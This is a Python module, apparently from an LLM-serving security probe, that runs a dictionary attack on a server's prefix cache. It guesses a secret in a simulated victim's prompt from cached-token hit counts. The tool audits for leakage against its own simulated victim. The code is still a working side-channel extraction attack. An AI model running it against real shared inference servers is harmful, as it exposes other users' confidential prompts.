"""The dictionary strategy of ``kvlab probe --extract``: a low-entropy secret guessed whole ("Leaking Secrets
from Prefix Caches", arXiv 2411.18191; InputSnatch).

Where hits show only in whole blocks of G tokens (vLLM, ``kvlab serve``'s default block reporting), a guess
shorter than a block never shows, so the attacker guesses the whole secret at once from a candidate set: a
dictionary (``--dictionary FILE``, one candidate a line, tried in the file's order, likeliest first) or every
string of the alphabet of the secret's length (all 4-digit PINs), tried in a seeded random order. Each guess
is ``prefix + candidate + filler``; it shows a hit when the server reports cached tokens up to the last block
boundary within ``prefix + candidate``. The simulated victim's prefix is padded so that ``prefix + secret``
ends exactly on a boundary (the worst case, as for the character strategy; ``--prefix`` keeps your own
layout): the hit then covers the whole candidate.

What a hit says: the victim's prompt starts with the candidate's tokens up to that boundary. A candidate whose
boundary does not pass the prefix says nothing; nor does one whose boundary stretch an earlier guess of the
attacker's own already put in the cache (a hit could be its own). Every answer narrows the set of candidates
consistent with all of them (a miss removes all that share the tested stretch, a hit keeps only those), and
candidates already ruled out are not sent. The attack stops when a fully covered hit is the only consistent
candidate, or when none is left. The probe knows the secret, so a wrong or ambiguous answer is reported as
such; a set larger than ``--max-candidates`` is out of reach and said so, with what it would cost, never
claimed as recovered.
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable, Iterator, Sequence
from typing import TYPE_CHECKING

from kvlab.probe.attacks.base import FILLERS, Step, tokens
from kvlab.probe.attacks.tokens import (
    TokenizerAccess,
    byte_level,
    channel_in_tokens,
    detect_specials,
    guard_no_leak,
)
from kvlab.probe.client import HTTPStatusError
from kvlab.probe.compare import common_prefix

if TYPE_CHECKING:
    from kvlab.probe.attacks.base import ExtractConfig
    from kvlab.probe.attacks.traffic import Attack

Ids = tuple[int, ...]


def made_up_names(n: int = 1000, seed: int = 0) -> tuple[str, ...]:
    """``n`` distinct made-up names of two or three syllables: a name-sized dictionary for demonstrations and
    tests (a secret "one of 1,000 names"), the same for a seed on every machine."""
    rng = random.Random(seed)
    onsets = ["b", "c", "d", "f", "g", "h", "j", "k", "l", "m", "n", "p", "r", "s", "t", "v", "w", "br", "st"]
    out: dict[str, None] = {}
    while len(out) < n:
        syllables = rng.randint(2, 3)
        name = "".join(
            rng.choice(onsets) + rng.choice("aeiou") + rng.choice(["", "n", "r", "l"]) for _ in range(syllables)
        )
        out[name.capitalize()] = None
    return tuple(out)


def candidate_count(cfg: ExtractConfig) -> int:
    """How many candidates the strategy would guess among."""
    if cfg.dictionary is not None:
        return len(cfg.dictionary)
    lo, hi = cfg.secret_length
    return sum(len(cfg.alphabet) ** n for n in range(lo, hi + 1))


def whole_cost(n: int) -> str:
    """What guessing a whole secret among ``n`` candidates costs the attacker."""
    return f"up to {n:,} attacker requests ({n // 2:,} on average) plus the victim's re-sends"


def generated(cfg: ExtractConfig, rng: random.Random) -> list[str]:
    """Every string of the alphabet of the secret's length(s), shuffled (no bias for a fixed secret)."""
    from itertools import product

    lo, hi = cfg.secret_length
    out = ["".join(t) for n in range(lo, hi + 1) for t in product(cfg.alphabet, repeat=n)]
    rng.shuffle(out)
    return out


def boundary_keys(ids: Sequence[int], start: int, g: int) -> Iterator[Ids]:
    """The stretches ``ids[start:m]`` for every block boundary ``m`` past ``start``."""
    m = (start // g + 1) * g
    while m <= len(ids):
        yield tuple(ids[start:m])
        m += g


# Padding units, tried in turn: a BPE vocabulary merges runs of dots into a few tokens (SmolLM2 has tokens of many
# dots), so dots alone may never reach a given count modulo a large block; a spaced unit is one token each.
PAD_UNITS = (".", " .", " x", " ok")


def aligned_prefix(base: str, secret: str, g: int, count: Callable[[str], int]) -> str:
    """``base`` padded before its last two characters, so that ``prefix + secret`` ends a block and the prefix
    alone is at least one (then the prefix is a visible hit); ``base`` itself when no padding found it."""
    for unit in PAD_UNITS:
        for pad in range(4 * g + 1):
            prefix = base[:-2] + unit * pad + base[-2:]
            if count(prefix + secret) % g == 0 and count(prefix) >= g:
                return prefix
    return base


def run_dictionary(run: Attack, tokenizer: TokenizerAccess | None) -> None:
    report, cfg = run.report, run.cfg
    report.strategy = "dictionary"
    n = candidate_count(cfg)
    report.candidates = n
    source = f"the {n} lines of --dictionary" if cfg.dictionary is not None else _generated_label(cfg, n)
    if not channel_in_tokens(run, tokenizer):
        _end(run, Step(0, len(report.secret), n, 0, "inconclusive"), "inconclusive", (
            "the dictionary strategy needs a count channel (cached_tokens or /metrics, in tokens); this server "
            f"shows hits only in TTFT ({report.channel}), which it does not time"
        ))  # fmt: skip
        return
    g = report.granularity or 1
    if n > run.budget_left():
        _end(run, Step(0, len(report.secret), n, 0, "unreachable"), "inconclusive", (
            f"out of reach: the candidate set ({source}) is larger than the request budget (--max-requests "
            f"{cfg.max_requests}, {run.budget_left()} left); guessing it would cost {whole_cost(n)}; nothing was "
            "guessed (not a proof of safety)"
        ))  # fmt: skip
        return
    text_mode = byte_level(tokenizer, cfg.alphabet, report.secret)
    if text_mode:
        enc: Callable[[str], Ids | None] = lambda t: tuple(t.encode())  # noqa: E731
        count: Callable[[str], int] = tokens
    else:
        assert tokenizer is not None  # channel_in_tokens needs one on a server that is not byte-level
        detect_specials(run, tokenizer)

        def enc(t: str) -> Ids | None:
            ids = tokenizer.encode(t)
            return None if ids is None else tuple(ids)

        def count(t: str) -> int:
            return len(enc(t) or ())

    filler = next(f for f in FILLERS if f not in cfg.alphabet)
    fill_ids = enc(filler)
    base = f"[{run.run_id}] Internal note for the assistant. The access code is: "
    prefix = cfg.prefix if cfg.prefix is not None else aligned_prefix(base, report.secret, g, count)
    report.prefix_chars = len(prefix)
    rng = random.Random(cfg.seed)
    cands = list(cfg.dictionary) if cfg.dictionary is not None else generated(cfg, rng)
    encoded = {c: enc(prefix + c) for c in cands}
    if fill_ids is None or any(v is None for v in encoded.values()):
        _end(run, Step(0, len(report.secret), n, 0, "inconclusive"), "inconclusive", "the tokenizer failed")
        return
    ids: dict[str, Ids] = {c: v for c, v in encoded.items() if v is not None}
    fill = fill_ids[-1]
    first = ids[cands[0]]
    k0 = min(common_prefix(first, v) for v in ids.values())  # tokens every candidate prompt shares: the known part
    groups: dict[Ids, set[str]] = {}
    for c, v in ids.items():
        for key in boundary_keys(v, k0, g):
            groups.setdefault(key, set()).add(c)
    own: set[Ids] = set()

    def send(c_ids: Ids, text: str) -> int:
        sent = (*c_ids, fill)
        own.update(boundary_keys(sent, k0, g))
        return run.hits(run.attack(text + filler if text_mode else list(sent)))

    run.victim_prompts = [prefix + report.secret]
    run.resend_victims()
    known_ids = first[:k0]
    try:
        shown_hit = send(known_ids, _text_of(prefix, first, k0, text_mode))
    except HTTPStatusError as exc:
        _end(run, Step(0, len(report.secret), n, 0, "inconclusive"), "inconclusive", (
            f"the server refuses token-id prompts ({exc.status})"
        ))  # fmt: skip
        return
    shown = k0 // g * g
    report.prefix_hit_tokens = shown_hit
    report.prefix_visible = shown_hit >= shown if shown else None
    alive = set(cands)
    step = Step(0, len(report.secret), n, 0, "no hit")
    tested: dict[str, bool] = {}
    untestable = 0
    for c in cands:
        if c not in alive:
            continue
        v = ids[c]
        b = len(v) // g * g
        key = tuple(v[k0:b])
        if b <= k0 or key in own:
            untestable += 1
            continue
        hit = send(v, prefix + c) >= b
        step.tried += 1
        tested[c] = hit
        group = groups.get(key, {c})
        alive = alive & group if hit else alive - group
        if c == report.secret and hit and report.requests_to_recover is None:
            report.requests_to_recover = report.attacker_requests + report.victim_requests
        if (hit and b == len(v) and alive == {c}) or not alive:
            break
    report.steps.append(step)
    run.on_step()
    _conclude(run, step, alive, tested, untestable, source)
    if not text_mode:
        guard_no_leak(run, tokenizer)


def _text_of(prefix: str, ids: Ids, k0: int, text_mode: bool) -> str:
    """The known part as text (byte-level: the prefix's first ``k0`` bytes)."""
    return prefix.encode()[:k0].decode(errors="ignore") if text_mode else prefix


def _generated_label(cfg: ExtractConfig, n: int) -> str:
    lo, hi = cfg.secret_length
    length = f"{lo}" if lo == hi else f"{lo} to {hi}"
    return f"all {n} strings of {length} characters of {cfg.alphabet!r}"


def _conclude(run: Attack, step: Step, alive: set[str], tested: dict[str, bool], untestable: int, source: str) -> None:
    report, cfg = run.report, run.cfg
    n, secret = report.candidates or 1, report.secret
    hits = [c for c, h in tested.items() if h]
    if untestable:
        report.notes.append(
            f"{untestable} candidate(s) could not be told by a hit: their last block boundary does not pass the "
            "known prefix, or an earlier guess of the attacker's own covers it"
        )
    if len(alive) == 1:
        (only,) = alive
        step.guess, step.correct = only, only == secret
        step.outcome = "recovered"
        how = "its hit" if tested.get(only) else "elimination (every other candidate missed)"
        step.detail = f"{only!r} is the only candidate consistent with all {step.tried} answers, by {how}"
        report.recovered = only
    elif alive and hits:
        step.outcome = "ambiguous"
        shown = ", ".join(repr(c) for c in sorted(alive)[:5]) + (", ..." if len(alive) > 5 else "")
        step.detail = f"{len(alive)} candidates remain consistent with every answer: {shown}"
    else:
        step.detail = f"none of the {step.tried} candidates sent hit past the known prefix"
    chance = len(alive) / n if secret in alive else 1.0
    report.chance = chance
    channel = report.channel_label
    cost = f"{report.attacker_requests} attacker + {report.victim_requests} victim requests"
    if step.outcome == "recovered" and step.correct:
        report.correct_chars = len(secret)
    if step.outcome == "recovered" and not step.correct:
        verdict, why = "inconclusive", f"the channel singled out a wrong candidate {step.guess!r}: its hits are noise"
    elif secret in alive and len(alive) < n and chance <= cfg.alpha:
        what = "recovered the secret" if step.outcome == "recovered" else f"narrowed the secret to {len(alive)}"
        verdict = "leak"
        why = f"{what} among {source} through {channel}, in {cost}; guessing would do it with probability {chance:.2g}"
    elif not hits and tested.get(secret) is False:
        verdict = "no leak"
        why = (
            f"all {step.tried} candidates sent were indistinguishable, the victim's own among them "
            f"({source}; the prefix itself {'is visible to' if report.prefix_visible else 'is hidden from'} "
            "the attacker)"
        )
    elif secret in alive and len(alive) < n:
        verdict = "inconclusive"
        why = (
            f"narrowed to {len(alive)} of {n} candidates, but a guess does that with probability {chance:.2g} > "
            f"{cfg.alpha} (not a proof of safety)"
        )
    else:
        verdict, why = "inconclusive", f"{step.detail} (not a proof of safety)"
    report.verdict, report.reason = verdict, why
    report.notes.append(
        f"a secret among {source}: {step.tried} guesses sent"
        + (f", {report.requests_to_recover} requests until the victim's was confirmed" if report.correct_chars else "")
        + f"; the whole set costs at most {n} attacker requests ({math.ceil(n / 2)} on average)"
    )


def _end(run: Attack, step: Step, verdict: str, why: str) -> None:
    report = run.report
    step.detail = why
    report.steps.append(step)
    run.on_step()
    report.verdict, report.reason = verdict, why


__all__ = [
    "aligned_prefix",
    "candidate_count",
    "generated",
    "run_dictionary",
    "whole_cost",
]
